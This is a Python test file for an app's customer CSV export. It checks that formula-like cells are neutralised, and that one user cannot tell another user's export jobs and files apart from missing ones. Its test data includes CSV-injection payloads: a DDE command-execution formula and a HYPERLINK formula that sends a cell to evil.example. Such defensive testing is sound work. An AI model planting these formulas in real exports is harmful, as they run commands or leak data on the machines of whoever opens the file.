"""What an attacker lets a colleague take out, and takes out of a colleague's: formulas, jobs, files."""

import csv
import io

import pytest
from starlette.testclient import TestClient

from strongroom.crypto.age import AgeReader, ScryptIdentity
from strongroom.server.serving import Serving
from tests.server.api.conftest import Asking
from tests.server.api.test_files import PASSPHRASE, WHY, worked
from tests.server.pages import reader

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1)', "+1+1", "@SUM(1)", "-2+3"]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def planted(alice: TestClient) -> None:
    """Customers whose companies are formulas: anybody may write what they like into a form of a shop."""
    for formula in FORMULAS:
        values = {"kind": "organization", "name": "某公司", "company": formula}
        assert alice.post("/v1/customers", json={"values": values}).status_code == 201


def cells_of(sealed: bytes) -> list[list[str]]:
    text = AgeReader(io.BytesIO(sealed), [ScryptIdentity(PASSPHRASE)]).read().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def check(rows: list[list[str]]) -> None:
    assert len(rows) == len(FORMULAS) + 1
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(RUNS), cell
    column = rows[0].index("company")
    assert sorted(row[column] for row in rows[1:]) == sorted(f"'{each}" for each in FORMULAS)


@pytest.mark.usefixtures("planted")
def test_no_cell_of_an_export_for_programs_runs(alice: TestClient, serving: Serving) -> None:
    body = {"passphrase": PASSPHRASE, "format": "csv", "fields": ["name", "company"], **WHY}
    done = worked(serving, alice.post("/v1/exports/customers", json=body))
    address = f"/v1/exports/customers/files/{done['result']['file']}"
    check(cells_of(alice.post(address, json=WHY).content))


@pytest.mark.usefixtures("planted")
def test_no_cell_of_an_export_by_a_page_runs(alice: TestClient, serving: Serving) -> None:
    with reader(serving, "alice") as page:
        page.post("/purpose", page="/account", purpose="sales", next="/")
        asked = {"format": "csv", "passphrase": PASSPHRASE, "fields": "company"}
        made = page.post(
            "/exports/customers", page="/exports?collection=customers", reason_code="migration", **asked
        )
        assert made.status_code == 303, made.text
        serving.at_work.runner.run_waiting()
    job = alice.get(f"/v1/jobs/{made.headers['location'].rpartition('/')[2]}").json()
    address = f"/v1/exports/customers/files/{job['result']['file']}"
    check(cells_of(alice.post(address, json=WHY).content))


def test_a_colleagues_job_and_file_are_like_those_that_are_not_there(
    alice: TestClient, asking: Asking, serving: Serving, lin: str
) -> None:
    with serving.room.acting("alice", purpose="security") as desk:
        desk.admin.user_add("ana", ["analyst"])
    body = {"passphrase": PASSPHRASE, **WHY}
    done = worked(serving, alice.post("/v1/exports/customers", json=body))
    ana = asking("ana", Strongroom_Purpose="analytics")
    nowhere = ("job_01k85hrb9yfw0a3cp3tkjzc1rr", "fil_01k85hrb9yfw0a3cp3tkjzc1rr")
    told = []
    for job, file in ((done["id"], done["result"]["file"]), nowhere):
        answers = [
            ana.get(f"/v1/jobs/{job}"),
            ana.post(f"/v1/jobs/{job}/cancel"),
            ana.post(f"/v1/exports/customers/files/{file}", json=WHY),
        ]
        told.append([(each.status_code, each.json()["code"]) for each in answers])
    assert told[0] == told[1]
    assert {status for status, _ in told[0]} <= {403, 404}
    assert alice.post(f"/v1/exports/customers/files/{done['result']['file']}", json=WHY).content
